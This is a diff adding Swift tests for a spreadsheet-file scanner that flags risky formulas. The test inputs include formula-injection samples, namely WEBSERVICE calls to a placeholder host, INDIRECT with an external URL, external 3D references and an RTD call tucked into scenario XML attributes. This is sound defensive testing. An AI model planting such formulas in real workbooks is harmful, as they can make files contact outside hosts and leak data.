@@ -242,3 +242,38 @@ struct Round15Tests {
         #expect(Round13Tests.markdown(text).isEmpty, "\(Round13Tests.markdown(text))")
     }
 }
+
+/// Attack round 15 on formulas: blanks after a table reference's `[`, a reference that never closes, 3D external
+/// references.
+struct Round15FormulaTests {
+    @Test(arguments: [
+        ##"SUM(T[ [a"])&INDIRECT("'http://e.example/x'"&"#$Sheet1.A1")"##, "SUM(T[\t[a\"])&_xlfn.WEBSERVICE(\"http://e/\")",
+        ##"SUM(T[[ [a"]])&INDIRECT("'http://e.example/x'"&"#$S.A1")"##, "SUM(T[a", "[B9]Sheet1:Sheet2!A1", "SUM([B9]Sheet1:Sheet2!A1:B2)",
+        "[B9]Sheet1:Sheet1!$A$1",
+    ])
+    func tableAndExternalReferencesAreReadWhole(_ formula: String) {
+        #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
+    }
+
+    @Test(arguments: ["SUM(T[[#This Row], [Qty]])", "SUM(Sheet1:Sheet3!A1)", "Table1[ Amount ]*2"])
+    func ordinaryReferencesStayClean(_ formula: String) {
+        #expect(OOXMLParts.formulaProblem(formula) == nil, "\(formula)")
+    }
+}
+
+struct Round15ScenarioTests {
+    @Test(arguments: [
+        "<inputCells r=\"A1\" val=\"=_xlfn.WEBSERVICE(&quot;http://e/&quot;)\"/>", "<inputCells r=\"A1\" val=\"INDIRECT(B1)\"/>",
+        "<x r=\"A1\" v=\" =RTD(&quot;a&quot;,,&quot;b&quot;)\"/>",
+    ])
+    func formulasInAttributesAreJudged(_ element: String) {
+        let part = "<worksheet><scenarios><scenario name=\"s\">\(element)</scenario></scenarios></worksheet>"
+        #expect(!OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: Array(part.utf8)).isEmpty, "\(element)")
+    }
+
+    @Test func anOrdinaryScenarioStaysClean() {
+        let part =
+            "<worksheet><scenarios><scenario name=\"s\"><inputCells r=\"A1\" val=\"42\"/><inputCells r=\"A2\" val=\"=A1*2\"/></scenario></scenarios></worksheet>"
+        #expect(OOXMLParts.findings(partName: "xl/worksheets/sheet1.xml", bytes: Array(part.utf8)).isEmpty)
+    }
+}
